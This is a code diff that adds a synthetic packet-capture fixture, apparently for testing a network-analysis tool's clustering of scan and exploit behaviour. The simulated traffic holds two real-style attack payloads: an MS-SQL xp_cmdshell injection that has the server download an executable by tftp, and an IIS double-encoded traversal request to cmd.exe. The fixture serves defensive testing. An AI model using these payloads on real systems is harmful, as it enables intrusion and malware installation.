@@ -1397,6 +1397,65 @@ void PortsSmallSample(Capture& c) {
   Tail(c, 1100);
 }
 
+// ---------------------------------------------------------------------------
+// Behaviour clusters (issue 7, `flowtrail report clusters`; Heberlein §7.2),
+// clusters_polymorph.pcap:
+//   10.80.0.7  an MS-SQL "exploit" on port 1433 to 400 addresses: 40 accept
+//              and get a payload that embeds the target's dotted quad (so
+//              every fingerprint differs a little: accidental polymorphism);
+//              30 of them answer with the same 111-byte banner and the client
+//              closes, 10 say nothing and reset. The rest are silent (3 in 4)
+//              or reject.
+//   10.80.0.9  the control: one identical request on port 80 to 200
+//              addresses; 24 accept, 16 answer a 162-byte page, 8 a 409-byte
+//              one. One exact fingerprint.
+std::string ClustersExploit(const std::string& target) {
+  // The dotted quad sits in the middle, so the first two bytes and the
+  // length class (64-127 bytes) stay those of the template.
+  return "EXEC master..xp_cmdshell 'tftp -i " + target + " GET sqlwrm.exe c:\\winnt\\sqlwrm.exe';--";
+}
+
+void ClustersPolymorph(Capture& c) {
+  Rng rng(0xc1a5);
+  c.base_us = 1'702'100'000 * kSec;
+  c.sensor_args = ArgsWithId(c);
+  const std::string banner = Exactly("MSSQL 8.00.194 ready; " + std::string(200, '.'), 111);
+  double t = 1.0;
+  for (int i = 0; i < 400; ++i) {
+    t += 0.01;
+    const std::string dst = Ip4(10, 90, 1 + i / 200, 1 + (i * 7) % 200);
+    Conversation& s = c.Add(
+        Tcp(Numbered("sql", i), "10.80.0.7", static_cast<uint16_t>(20000 + i), dst, 1433, rng), t);
+    if (i % 10 == 3) {
+      s.Handshake().Data(kC, ClustersExploit(dst));
+      if (i % 40 != 13) {
+        s.Data(kS, banner).Close(kC);
+      } else {
+        s.Rst(kS);
+      }
+    } else if (i % 4 == 0) {
+      s.Syn().RstRefuse();
+    } else {
+      s.Syn();
+    }
+  }
+  const std::string request = "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n";
+  for (int i = 0; i < 200; ++i) {
+    t += 0.01;
+    const std::string dst = Ip4(10, 91, 1, 1 + i);
+    Conversation& s = c.Add(
+        Tcp(Numbered("web", i), "10.80.0.9", static_cast<uint16_t>(30000 + i), dst, 80, rng), t);
+    if (i % 25 < 3) {
+      s.Handshake().Data(kC, request).Data(kS, Exactly(i % 25 < 2 ? "HTTP/1.0 404" : "HTTP/1.0 200",
+                                                        i % 25 < 2 ? 162 : 409));
+      s.Close(kS);
+    } else {
+      s.Syn();
+    }
+  }
+  Tail(c, t + 60);
+}
+
 int Main(int argc, char** argv) {
   if (argc < 2 || std::strcmp(argv[1], "--help") == 0) {
     std::fprintf(stderr,
@@ -1467,6 +1526,7 @@ int Main(int argc, char** argv) {
       {"scan_stories", ScanStories},
       {"ports_fixed_sport_scan", PortsFixedSportScan},
       {"ports_small_sample", PortsSmallSample},
+      {"clusters_polymorph", ClustersPolymorph},
   };
   for (const std::string& name : only) {
     auto c = std::make_unique<Capture>();
